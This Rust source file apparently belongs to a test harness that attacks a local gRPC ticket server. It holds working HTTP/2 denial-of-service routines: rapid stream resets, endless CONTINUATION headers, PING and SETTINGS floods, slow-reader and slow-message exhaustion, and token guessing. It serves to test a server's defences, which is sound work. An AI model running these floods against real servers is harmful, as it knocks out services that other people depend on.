//! The attacks, which the attacker's own process runs: several connections side by side, each opened again when the
//! server closes it.

use std::io::{self, Read as _};
use std::net::{IpAddr, Ipv4Addr, TcpStream};
use std::sync::atomic::{AtomicU64, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use crate::raw_http2::{self, RawHttp2};
use crate::slow_readers;

/// Not the address of the good client.
const FROM: IpAddr = IpAddr::V4(Ipv4Addr::new(127, 0, 0, 2));
pub(crate) const LIST: &str = "/hotline.v1.TicketService/ListTickets";
const CREATE: &str = "/hotline.v1.TicketService/CreateTicket";
/// The pause between two bytes of a slow message.
const SLOW: Duration = Duration::from_secs(1);
/// The pause after a closed connection, so that the machine does not run out of ports.
const PAUSE: Duration = Duration::from_millis(1);

/// The attacked server, until when, and the results.
pub(crate) struct Target {
    address: String,
    token: String,
    until: Instant,
    sent: AtomicU64,
    ended: AtomicU64,
}

/// An attack: its name, its connections, and what each of them does until it is closed.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    connections: u32,
    run: fn(&Target) -> io::Result<()>,
    /// Whether it does not read its responses, so that the server's growth must be limited.
    pub(crate) is_slow_reader: bool,
    /// Whether it lists tickets, so that the server must hold enough for a large page.
    pub(crate) has_lists: bool,
}

const fn attack(name: &'static str, connections: u32, run: fn(&Target) -> io::Result<()>) -> Attack {
    Attack { name, connections, run, is_slow_reader: false, has_lists: false }
}

const fn slow_reader(name: &'static str, connections: u32, run: fn(&Target) -> io::Result<()>) -> Attack {
    Attack { name, connections, run, is_slow_reader: true, has_lists: false }
}

const fn slow_lister(name: &'static str, connections: u32, run: fn(&Target) -> io::Result<()>) -> Attack {
    Attack { has_lists: true, ..slow_reader(name, connections, run) }
}

pub(crate) const ATTACKS: [Attack; 16] = [
    attack("rapid_resets", 4, rapid_resets),
    attack("broken_streams", 4, broken_streams),
    attack("many_connections", 100, broken_streams),
    attack("endless_headers", 4, endless_headers),
    attack("packed_headers", 4, packed_headers),
    attack("large_messages", 4, large_messages),
    attack("slow_messages", 8, slow_messages),
    attack("pings", 4, |target| flood(target, raw_http2::PING, &[7; 8])),
    attack("settings", 4, |target| flood(target, raw_http2::SETTINGS, &[])),
    attack("guesses", 4, guesses),
    slow_lister("unread_lists", 60, slow_readers::unread_lists),
    slow_lister("trickled_lists", 60, slow_readers::trickled_lists),
    slow_lister("unread_sockets", 60, slow_readers::unread_sockets),
    slow_reader("unread_reflections", 20, slow_readers::unread_reflections),
    slow_reader("known_reflections", 20, slow_readers::known_reflections),
    slow_reader("unread_watches", 20, slow_readers::unread_watches),
];

impl Target {
    pub(crate) fn goes_on(&self) -> bool {
        Instant::now() < self.until
    }

    fn open(&self) -> io::Result<RawHttp2> {
        RawHttp2::open(&self.address, FROM)
    }

    /// Opens a connection with this flow-control window on each stream.
    pub(crate) fn open_with_window(&self, window: u32) -> io::Result<RawHttp2> {
        RawHttp2::open_with_window(&self.address, FROM, window)
    }

    pub(crate) fn token(&self) -> &str {
        &self.token
    }

    pub(crate) fn count(&self, sent: u64) {
        self.sent.fetch_add(sent, Ordering::Relaxed);
    }
}

/// Runs an attack; returns the results as a line.
pub(crate) fn run(name: &str, address: &str, token: &str, time: Duration) -> String {
    let attack = ATTACKS.iter().find(|attack| attack.name == name).expect("an attack");
    let target = Target {
        address: address.to_owned(),
        token: token.to_owned(),
        until: Instant::now() + time,
        sent: AtomicU64::new(0),
        ended: AtomicU64::new(0),
    };
    println!("begun");
    thread::scope(|scope| {
        for _ in 0..attack.connections {
            scope.spawn(|| {
                while target.goes_on() {
                    // The attacker does not care why it was closed.
                    let _ = (attack.run)(&target);
                    target.ended.fetch_add(1, Ordering::Relaxed);
                    thread::sleep(PAUSE);
                }
            });
        }
    });
    let (sent, ended) = (target.sent.into_inner(), target.ended.into_inner());
    format!(
        "{sent} sent over {} connections, {ended} of which were ended",
        u64::from(attack.connections).max(ended)
    )
}

/// Reads and drops what the server sends, so that the server can send more.
fn discard_input(stream: &TcpStream) -> io::Result<thread::JoinHandle<()>> {
    let mut stream = stream.try_clone()?;
    Ok(thread::spawn(move || {
        let mut buffer = [0; 16 * 1024];
        while stream.read(&mut buffer).is_ok_and(|read| read > 0) {}
    }))
}

/// Sends the bytes that `next` makes, with the number of requests in them, until the server or the time ends it.
fn stream_of(target: &Target, mut next: impl FnMut(&mut RawHttp2, &mut Vec<u8>) -> u64) -> io::Result<()> {
    let mut peer = target.open()?;
    let discarding = discard_input(&peer.stream)?;
    let (mut outcome, mut bytes) = (Ok(()), Vec::new());
    while target.goes_on() && outcome.is_ok() && !discarding.is_finished() {
        let count = next(&mut peer, &mut bytes);
        outcome = peer.send(&bytes);
        target.count(if outcome.is_ok() { count } else { 0 });
    }
    peer.stream.shutdown(std::net::Shutdown::Both)?;
    // The thread ends with the connection and has no result.
    let _ = discarding.join();
    outcome
}

/// Repeats these frames in the bytes, each time on another stream. They are made once and renumbered, so that an attack
/// costs less than the defence.
fn on_new_streams(peer: &mut RawHttp2, bytes: &mut Vec<u8>, times: usize, frames: &[Vec<u8>]) -> u64 {
    if bytes.is_empty() {
        *bytes = frames.concat().repeat(times);
    }
    for blow in bytes.chunks_exact_mut(frames.iter().map(Vec::len).sum()) {
        let stream = peer.take_stream().to_be_bytes();
        let mut begin = 0;
        for frame in frames {
            blow[begin + 5..begin + 9].copy_from_slice(&stream);
            begin += frame.len();
        }
    }
    times as u64
}

fn rapid_resets(target: &Target) -> io::Result<()> {
    let opened = raw_http2::frame(
        raw_http2::HEADERS,
        raw_http2::END_HEADERS,
        0,
        &raw_http2::call(LIST, &target.token),
    );
    let pair = [opened, raw_http2::frame(raw_http2::RST_STREAM, 0, 0, &[0, 0, 0, 8])];
    stream_of(target, |peer, bytes| on_new_streams(peer, bytes, 20, &pair))
}

fn broken_streams(target: &Target) -> io::Result<()> {
    let block = raw_http2::header(":method", "POST", false);
    let broken = [raw_http2::frame(raw_http2::HEADERS, raw_http2::END_HEADERS, 0, &block)];
    stream_of(target, |peer, bytes| on_new_streams(peer, bytes, 50, &broken))
}

fn endless_headers(target: &Target) -> io::Result<()> {
    let (block, piece) =
        (raw_http2::call(LIST, &target.token), raw_http2::header("x-filler", &"a".repeat(8000), false));
    let mut begun = 0;
    stream_of(target, |peer, bytes| {
        if begun == 0 {
            begun = peer.take_stream();
            *bytes = raw_http2::frame(raw_http2::HEADERS, 0, begun, &block);
        } else {
            *bytes = raw_http2::frame(raw_http2::CONTINUATION, 0, begun, &piece);
        }
        1
    })
}

fn packed_headers(target: &Target) -> io::Result<()> {
    let mut block = raw_http2::call(LIST, &target.token);
    block.extend(raw_http2::header("x-filler", &"a".repeat(3900), true));
    block.extend([raw_http2::FIRST_KEPT; 10_000]);
    let packed =
        [raw_http2::frame(raw_http2::HEADERS, raw_http2::END_HEADERS | raw_http2::END_STREAM, 0, &block)];
    stream_of(target, |peer, bytes| on_new_streams(peer, bytes, 1, &packed))
}

fn large_messages(target: &Target) -> io::Result<()> {
    let opened = raw_http2::frame(
        raw_http2::HEADERS,
        raw_http2::END_HEADERS,
        0,
        &raw_http2::call(CREATE, &target.token),
    );
    // A message of 300 KiB, of which only a part fits into the window.
    let mut data = vec![0, 0, 4, 0xb0, 0];
    data.resize(16_000, 0x20);
    let message = [
        opened,
        raw_http2::frame(raw_http2::DATA, 0, 0, &data),
        raw_http2::frame(raw_http2::RST_STREAM, 0, 0, &[0, 0, 0, 8]),
    ];
    stream_of(target, |peer, bytes| on_new_streams(peer, bytes, 1, &message))
}

fn slow_messages(target: &Target) -> io::Result<()> {
    let block = raw_http2::call(CREATE, &target.token);
    let mut streams = Vec::new();
    stream_of(target, |peer, bytes| {
        if streams.is_empty() {
            streams = (0..100).map(|_| peer.take_stream()).collect();
            let head =
                |stream: &u32| raw_http2::frame(raw_http2::HEADERS, raw_http2::END_HEADERS, *stream, &block);
            *bytes = streams.iter().flat_map(head).collect();
        } else {
            thread::sleep(SLOW);
            *bytes = streams
                .iter()
                .flat_map(|stream| raw_http2::frame(raw_http2::DATA, 0, *stream, &[0]))
                .collect();
        }
        100
    })
}

fn flood(target: &Target, kind: u8, payload: &[u8]) -> io::Result<()> {
    let frames = raw_http2::frame(kind, 0, 0, payload).repeat(100);
    stream_of(target, |_, bytes| {
        bytes.clone_from(&frames);
        100
    })
}

fn guesses(target: &Target) -> io::Result<()> {
    let mut number = 0;
    let mut peer = target.open()?;
    while target.goes_on() {
        number += 1;
        let stream = peer.begin(&raw_http2::call(LIST, &format!("guess {number}")), raw_http2::END_STREAM)?;
        target.count(1);
        // Reads the answer, so that one connection may go on for as long as possible.
        let answered = peer.await_frame(|frame| frame.stream == stream && frame.kind == raw_http2::HEADERS);
        answered.ok_or(io::ErrorKind::ConnectionReset)?;
    }
    Ok(())
}
